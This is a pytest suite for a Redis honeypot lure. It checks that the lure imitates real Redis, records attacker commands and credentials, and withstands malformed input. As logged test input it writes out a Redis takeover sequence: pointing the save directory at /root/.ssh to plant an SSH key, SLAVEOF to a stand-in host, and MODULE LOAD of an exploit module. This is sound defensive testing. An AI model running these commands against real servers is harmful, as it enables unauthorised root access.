import asyncio
import os
import shutil
import subprocess
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lures.redis.probes import ALIKE, RECORDED, wire
from lures.redis.real import answer, said_by_lure, said_by_server
from lures.serve import Heard, play, serve, transcript, visit, written
from lures.serve import _Served as Served
from propolis.events import ClientIdentified, CommandRun, CredentialTried, Malformed
from propolis.lures.redis import RedisLure
from propolis.lures.redis.dialogue import LINE_CHARS, NAME_CHARS, PAYLOAD_BYTES, SAMPLE_BYTES
from propolis.lures.redis.record import server
from propolis.lures.redis.wire import REPLY_BYTES, REQUEST_BYTES

needs_redis = pytest.mark.skipif(
    not shutil.which("redis-server"), reason="Debian's redis-server is not installed"
)


@pytest.mark.root
@needs_redis
def test_the_lure_answers_every_probe_as_redis_does() -> None:
    assert sum(map(len, ALIKE)) > 600
    differences = []
    with server() as port:
        for said in ALIKE + RECORDED:
            real, ours = said_by_server(port, said), said_by_lure(said)
            if real != ours:
                pairs = zip(said, real[0], ours[0], strict=False)
                differences.append([pair for pair in pairs if pair[1] != pair[2]] or (said, real, ours))
    assert differences == []


@pytest.mark.root
@pytest.mark.skipif(not shutil.which("nmap"), reason="nmap is not installed")
async def test_nmap_sees_redis() -> None:
    # nmap asks for the version only on Redis' own port, so the lure has an address of its own
    address = f"127.{os.getpid() % 200 + 1}.79.3"
    loop = asyncio.get_running_loop()
    async with await loop.create_server(lambda: Served(RedisLure, []), address, 6379):
        said = await _run("nmap", "-sV", "-Pn", "-p", "6379", "--script", "redis-info", address)
    assert "Redis key-value store 7.0.15" in said
    assert "Operating System: Linux 6.1" in said
    assert "Role: master" in said
    assert "honeypot" not in said.lower()


@pytest.mark.root
@needs_redis
async def test_redis_cli_talks_to_it() -> None:
    async with serve(RedisLure) as (port, events):
        assert "redis_version:7.0.15" in await _cli(port, "INFO")
        assert await _cli(port, "CONFIG", "SET", "dir", "/root/.ssh") == "OK\n"
        assert await _cli(port, "-3", "HGETALL", "nothing") == "\n"
        assert "maxmemory-policy\nnoeviction" in await _cli(port, "CONFIG", "GET", "*")
        said = await _cli(
            port, said='SET crackit "\\n\\nssh-rsa AAAA x\\n"\nGET crackit\nSAVE\nCOMMAND COUNT\n'
        )
        assert said == "OK\n\n\nssh-rsa AAAA x\n\nOK\n240\n"
    commands = [event.command for event in events if isinstance(event, CommandRun)]
    assert "CONFIG SET dir /root/.ssh" in commands
    assert 'SET crackit "\\n\\nssh-rsa AAAA x\\n"' in commands


async def _cli(port: int, *words: str, said: str = "") -> str:
    return await _run("redis-cli", "-p", str(port), *words, said=said)


async def _run(*command: str, said: str = "") -> str:
    pipe = subprocess.PIPE
    process = await asyncio.create_subprocess_exec(*command, stdin=pipe, stdout=pipe)
    out, _ = await process.communicate(said.encode())
    return out.decode()


def test_a_takeover_is_played_to_its_end() -> None:
    script = r"""
    > CONFIG SET dir /root/.ssh
    ! CommandRun command='CONFIG SET dir /root/.ssh'
    < +OK
    > CONFIG SET dbfilename authorized_keys
    ! CommandRun command='CONFIG SET dbfilename authorized_keys'
    < +OK
    > SET x "ssh-rsa AAAA"
    ! CommandRun command='SET x "ssh-rsa AAAA"'
    < +OK
    > SAVE
    ! CommandRun command='SAVE'
    < +OK
    > SLAVEOF 203.0.113.9 21000
    ! CommandRun command='SLAVEOF 203.0.113.9 21000'
    < +OK
    > MODULE LOAD /tmp/exp.so
    ! CommandRun command='MODULE LOAD /tmp/exp.so'
    < -ERR Error loading the extension. Please check the server logs.
    > system.exec id
    ! CommandRun command='system.exec id'
    < -ERR unknown command 'system.exec', with args beginning with: 'id'
    """
    assert transcript(RedisLure, script) == written(script)


def test_credentials_are_told() -> None:
    heard = play(
        RedisLure, b"AUTH hunter2\r\n", wire(("AUTH", "default", b"\xffpw")), b"HELLO 3 AUTH root toor\r\n"
    )
    tried = [event for event in heard.events if isinstance(event, CredentialTried)]
    assert tried == [
        CredentialTried("", "hunter2", "redis"),
        CredentialTried("default", "\\xffpw", "redis", accepted=True),
        CredentialTried("root", "toor", "redis"),
    ]
    assert [event.command for event in heard.events if isinstance(event, CommandRun)][
        1
    ] == 'AUTH default "\\xffpw"'


def test_names_are_told() -> None:
    parts = (b"CLIENT SETNAME bot\r\n", b"CLIENT SETINFO lib-name redis-py\r\n", b"HELLO 3 SETNAME miner\r\n")
    heard = play(RedisLure, *parts)
    named = [event.software for event in heard.events if isinstance(event, ClientIdentified)]
    assert named == ["bot", "lib-name redis-py", "miner"]


def test_a_command_is_told_with_its_bytes() -> None:
    raw = wire(("SET", "k", b"\x00\xff"))
    heard = play(RedisLure, raw[:7], raw[7:] + b"PING\r\n")
    assert heard.events == [CommandRun('SET k "\\x00\\xff"', raw), CommandRun("PING", b"PING\r\n")]
    assert heard.sent == b"+OK\r\n+PONG\r\n"


def test_broken_protocol_ends_the_visit() -> None:
    heard = play(RedisLure, b"PING\r\n*1\r\n+x\r\n" + b"y" * 9_000)
    assert heard.hung_up
    assert heard.sent == b"+PONG\r\n-ERR Protocol error: expected '$', got '+'\r\n"
    assert heard.events[1] == Malformed(
        "expected '$', got '+'", (b"*1\r\n+x\r\n" + b"y" * 9_000)[:SAMPLE_BYTES]
    )
    assert heard.feed(b"PING\r\n").sent == heard.sent


def test_http_is_hung_up_on_without_a_word() -> None:
    heard = play(RedisLure, b"POST /x HTTP/1.1\r\nHost: x\r\n\r\nFLUSHALL\r\n")
    assert heard.hung_up
    assert heard.sent == b""
    assert [event.command for event in heard.events if isinstance(event, CommandRun)] == ["POST /x HTTP/1.1"]


def test_what_is_left_unfinished_is_told() -> None:
    assert play(RedisLure, b"*2\r\n$3\r\nGET\r\n").events == [
        Malformed("unfinished command", b"*2\r\n$3\r\nGET\r\n")
    ]
    assert play(RedisLure, b"\r\n").events == []


def test_events_are_bounded() -> None:
    big = b"x" * 400_000
    heard = play(RedisLure, wire(("AUTH", big)), wire(("SET", "k", big)))
    run = [event for event in heard.events if isinstance(event, CommandRun)]
    assert all(len(event.payload) <= PAYLOAD_BYTES and len(event.command) <= LINE_CHARS for event in run)
    assert all(
        len(event.secret) <= NAME_CHARS for event in heard.events if isinstance(event, CredentialTried)
    )


def test_a_request_that_never_ends_is_ended() -> None:
    heard = play(
        RedisLure, b"*2\r\n$3\r\nSET\r\n$400000000\r\n", *[b"x" * 65_536] * (REQUEST_BYTES // 65_536 + 1)
    )
    assert heard.hung_up
    assert heard.kinds() == ["Malformed"]


def test_a_reply_that_grows_too_long_ends_the_visit() -> None:
    value = b"x" * 500_000
    heard = play(RedisLure, wire(("SET", "k", value)), b"MGET " + b"k " * 20 + b"\r\n")
    assert heard.hung_up
    assert len(heard.sent) <= REPLY_BYTES
    heard = play(RedisLure, wire(("SET", "k", value)), b"GET k\r\n" * 20)
    assert heard.hung_up
    assert len(heard.sent) <= REPLY_BYTES + 100


def test_two_sensors_do_not_look_alike() -> None:
    one, other = (play(RedisLure, b"INFO\r\n", seed=seed).sent for seed in (b"one", b"other"))
    differing = {a.partition(b":")[0] for a, b in zip(one.split(), other.split(), strict=True) if a != b}
    assert {
        b"run_id",
        b"uptime_in_seconds",
        b"used_memory",
        b"process_id",
        b"total_system_memory",
    } <= differing


def test_tables_are_in_an_order_of_the_sensors_own() -> None:
    for line in (b"COMMAND LIST\r\n", b"CONFIG GET *\r\n"):
        one, other = (play(RedisLure, line, seed=seed).sent.split() for seed in (b"one", b"other"))
        assert one != other
        assert sorted(one) == sorted(other)


def test_silence_is_kept_for_what_blocks() -> None:
    assert answer("BLPOP none 0") == b""
    assert answer("CLIENT REPLY OFF", "PING") == b""


WORDS = st.sampled_from(
    sorted({word for said in ALIKE for each in said if isinstance(each, str) for word in each.split()})
)
LINES = st.lists(
    st.lists(WORDS, max_size=6).map(lambda words: " ".join(words).encode("latin-1") + b"\r\n"), max_size=12
)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.one_of(st.binary(max_size=200), LINES.map(b"".join)), max_size=6))
def test_any_bytes_survive(parts: list[bytes]) -> None:
    heard = play(RedisLure, *parts)
    assert len(heard.sent) <= 7 * REPLY_BYTES
    for event in heard.events:
        if isinstance(event, CommandRun):
            assert event.command.encode()


@settings(max_examples=60, deadline=None)
@given(LINES, st.lists(st.integers(0, 300), max_size=8))
def test_it_does_not_matter_where_bytes_are_split(lines: list[bytes], cuts: list[int]) -> None:
    data = b"".join(
        line for line in lines if not line.lower().startswith((b"post", b"host:", b"info", b"client"))
    )
    places = sorted({0, len(data), *(min(cut, len(data)) for cut in cuts)})
    whole, split = Heard(RedisLure(visit())).feed(data), Heard(RedisLure(visit()))
    split.feed(*[data[start:end] for start, end in pairwise(places)])
    assert [type(event) for event in split.events] == [type(event) for event in whole.events]
    assert split.hung_up == whole.hung_up
